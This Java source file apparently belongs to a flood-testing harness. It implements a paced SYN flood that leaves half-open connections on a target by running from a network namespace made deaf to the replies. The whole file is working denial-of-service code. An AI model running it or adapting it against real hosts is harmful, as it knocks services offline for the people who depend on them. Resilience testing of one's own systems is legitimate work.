package dev.seawall.deploy.flood.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.SocketException;
import java.nio.channels.ClosedByInterruptException;
import java.nio.channels.SocketChannel;
import java.util.ArrayDeque;
import java.util.concurrent.TimeUnit;
import java.util.function.LongSupplier;

/**
 * Connection attempts that stay half open at the other end. Java sends no packets of its own making, so the namespace is
 * made deaf first ({@code Fabric.deafToAnswers}): it drops the answers to its SYNs before the kernel sees them, which then
 * neither acknowledges nor resets. Each attempt is given up before the kernel would repeat its SYN (RFC 6298 §2.1: 1 s),
 * in silence, as a connection that was never established ends without a packet; its port is free for the next.
 *
 * <p>Thread rule: {@link #run} once.
 */
final class SynFlood implements Assault {
    /** An attempt under way. */
    private record Attempt(SocketChannel channel, long beganNanos) {}

    private static final long GIVEN_UP_NANOS = 900_000_000;

    private final InetSocketAddress target;
    private final int most;
    private final Pacer pacer;
    private final Tally tally;
    private final LongSupplier nanoTime;
    private final ArrayDeque<Attempt> attempts = new ArrayDeque<>();

    /** @param most attempts under way at a time; the rate is this per 0.9 s at most */
    SynFlood(InetSocketAddress target, Pacer pacer, int most, Tally tally, LongSupplier nanoTime) {
        this.target = target;
        this.most = most;
        this.pacer = pacer;
        this.tally = tally;
        this.nanoTime = nanoTime;
    }

    /** @throws IOException when answers get through, so that connections would be whole */
    @Override
    public void run() throws IOException, InterruptedException {
        try {
            while (true) {
                pacer.take();
                giveUpOld();
                attempt();
            }
        } catch (ClosedByInterruptException e) {
            Thread.currentThread().interrupt();
        } finally {
            for (Attempt attempt : attempts) {
                attempt.channel().close();
            }
        }
    }

    private void giveUpOld() throws IOException, InterruptedException {
        Attempt oldest = attempts.peek();
        while (oldest != null && (isOld(oldest) || attempts.size() >= most)) {
            long early = oldest.beganNanos() + GIVEN_UP_NANOS - nanoTime.getAsLong();
            TimeUnit.NANOSECONDS.sleep(Math.max(0, early));
            attempts.remove();
            giveUp(oldest.channel());
            oldest = attempts.peek();
        }
    }

    private boolean isOld(Attempt attempt) {
        return nanoTime.getAsLong() - attempt.beganNanos() >= GIVEN_UP_NANOS;
    }

    private void giveUp(SocketChannel channel) throws IOException {
        try (channel) {
            if (channel.isConnectionPending() && !channel.finishConnect()) {
                // Half open there, or lost on the way: who doesn't hear can't tell.
                tally.count("unanswered");
            } else if (channel.isConnected()) {
                throw new IOException("a connection to " + target + " was established: this namespace hears the answers"
                        + " to its SYNs. Make it deaf to them (Fabric.deafToAnswers)");
            }
        } catch (SocketException e) {
            tally.count(Outcomes.notOpened(e));
        }
    }

    private void attempt() throws IOException {
        tally.did();
        long began = nanoTime.getAsLong();
        try {
            SocketChannel channel = SocketChannel.open();
            attempts.add(new Attempt(channel, began));
            channel.configureBlocking(false);
            channel.connect(target);
        } catch (SocketException e) {
            // No port or descriptor is left here; an attempt without a connection is given up like the others.
            tally.count(Outcomes.notOpened(e));
        }
    }
}
